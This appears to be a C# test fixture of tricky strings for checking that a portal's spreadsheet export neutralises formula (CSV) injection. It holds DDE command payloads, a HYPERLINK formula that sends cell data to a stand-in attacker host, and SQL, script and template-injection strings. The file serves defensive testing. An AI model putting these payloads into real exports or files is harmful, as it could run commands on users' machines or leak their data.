namespace Portal.Tests.Exports;

/// <summary>Texts from people and APIs that are hard to write into a cell safely and unchanged.</summary>
internal static class TrickyTexts
{
    /// <summary>A spreadsheet may read each of these as a formula.</summary>
    public static readonly string[] Formulas =
    [
        "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
        "-5",
        "+49 30 123456", "\t=1", "\tplain", "\rplain", "\nplain", " =1", "   +1", "\u00A0=1", "\u3000@x", "\u200B=1",
        "\uFEFF=1", "\u202E=1", "'=1", "\"=1", "\"\"'+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
        "﹦1", "﹢1", "﹣1", "﹫x", "⁺1", "₋1", "−1+1", "+1+1\u0009@SUM(A1:A9)",
    ];

    /// <summary>
    /// A reader that splits the file at semicolons and line ends would find a formula inside each of these.
    /// </summary>
    public static readonly string[] FormulasInside =
    [
        "a;=1+1;b", "a;\"=cmd|'/C calc'!A0", "a; @SUM(A1);", "line\n=HYPERLINK(\"x\")", "line\r\n-1+cmd|' /C calc'!A0",
        "x;+f(1)", "\r=1", "\n=1", "\r\n@x",
    ];

    /// <summary>None of these is dangerous: they must read back unchanged.</summary>
    public static readonly string[] Harmless =
    [
        "", " ", "plain", "1=1", "a@b.example", "2026-01-31", "a,b", "a;b", "say \"hello\"", "two\nlines",
        "two\r\nlines", "cr\ralone",
        "list:\n- one\n- two", "'; DROP TABLE Orders; --", "<script>alert(1)</script>", "javascript:alert(1)",
        "tab\there",
        "line\u2028separator", "next\u0085line", "\u202Egnp.exe\u202C reads backwards", "שלום and مرحبا", "👩‍🚀🇪🇺",
        "{{7*7}} ${7*7}", "_x0041_ looks escaped", "$1", "%x", "|pipe", " leading and trailing ", "\u201Cquoted\u201D",
    ];
}
